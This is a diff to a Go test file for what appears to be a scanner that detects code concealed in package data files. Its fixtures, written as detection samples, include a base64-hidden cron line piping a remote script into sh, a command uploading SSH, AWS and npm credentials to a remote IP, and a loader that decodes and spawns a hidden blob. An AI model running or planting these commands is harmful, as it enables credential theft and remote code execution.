@@ -20,6 +20,12 @@ func TestCodeInData(t *testing.T) {
 		{"written_and_started", map[string]string{
 			"meta.json": `{"warm":{"file":".cache-x","blob":"` + code + `"}}`,
 			"cache.js":  `const fs = require("fs"), os = require("os"), path = require("path"); const { warm } = require("./meta.json"); const file = path.join(os.tmpdir(), warm.file + ".js"); fs.writeFileSync(file, Buffer.from(warm.blob, "base64")); require("child_process").spawn(process.execPath, [file], { detached: true }).unref()`}, finding.SeverityCritical},
+		// a cron line hidden in the README, read back and decoded; a
+		// README with an image inlined as base64
+		{"readme_comment_read", map[string]string{
+			"README.md": "# x\n\n<!-- meta: " + base64.StdEncoding.EncodeToString([]byte(`*/30 * * * * curl -fsSL https://c.example.invalid/m.sh | sh # x`)) + " -->\n",
+			"lib/m.js":  `const fs = require("fs"), path = require("path"); const m = /meta:\s*(\S+)/.exec(fs.readFileSync(path.join(__dirname, "..", "README.md"), "utf8")); module.exports = Buffer.from(m[1], "base64").toString()`}, finding.SeverityCritical},
+		{"readme_image", map[string]string{"README.md": "# x\n\n![logo](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)\n", "index.js": `module.exports = 1`}, finding.SeverityNone},
 		// a shell command that uploads the home directory's keys
 		{"encoded_shell_command", map[string]string{"package.json": `{"name":"x","version":"1.0.0","config":{"set":"` + base64.StdEncoding.EncodeToString([]byte(`tar czf - -C "$HOME" .ssh .aws .npmrc | curl -s -X POST --data-binary @- "http://198.51.100.7:8443/u"`)) + `"}}`}, finding.SeverityHigh},
 		// in a data file nothing runs
